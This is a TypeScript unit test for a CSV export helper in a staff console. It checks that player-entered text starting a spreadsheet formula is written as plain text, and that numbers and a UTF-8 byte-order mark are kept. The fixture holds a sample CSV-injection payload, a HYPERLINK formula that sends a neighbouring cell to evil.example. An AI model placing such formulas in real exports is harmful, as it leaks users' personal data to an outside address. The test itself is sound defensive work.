// The staff console's CSV files: what a player typed (a chat message, a name) must not run as a
// formula when support opens the file in Excel or Sheets (CSV injection): `=HYPERLINK(...)` sent by
// a guest in the chat would otherwise send the neighbouring cells (phones, names) to its address.
import { describe, expect, it } from 'vitest'
import { csvText } from '../../ops/lib/csv'

const cells = (text: string) => text.replace(/^\uFEFF/, '').trimEnd().split('\n').map((line) => line.split(','))

describe('csvText', () => {
  it('writes a text that starts a formula as text, and leaves numbers, negative ones too, as numbers', () => {
    const rows = [['member', 'last message', 'amount'], ['สมชาย', '=HYPERLINK("https://evil.example/?"&C2,"open")', -500], ['ສົມສັກ', '+1+1', 1200.5], ['x', '@SUM(A1)', 0], ['y', '-2+3', 7]]
    const [header, ...body] = cells(csvText(rows))
    expect(header).toEqual(['member', 'last message', 'amount'])
    expect(body.map((row) => row[0])).toEqual(['สมชาย', 'ສົມສັກ', 'x', 'y'])
    for (const row of body) expect(row.slice(1, -1).join(',')).toMatch(/^"?'/)
    expect(body.map((row) => row.at(-1))).toEqual(['-500', '1200.5', '0', '7'])
    // An amount the console writes as text (toFixed) is an amount, not a formula.
    expect(cells(csvText([['-500.00', '-1200', '-', '-x']]))).toEqual([['-500.00', '-1200', "'-", "'-x"]])
  })

  it('starts with a byte-order mark, so that Excel reads Thai and Lao as UTF-8', () => {
    expect(csvText([['a']]).startsWith('\uFEFF')).toBe(true)
  })
})
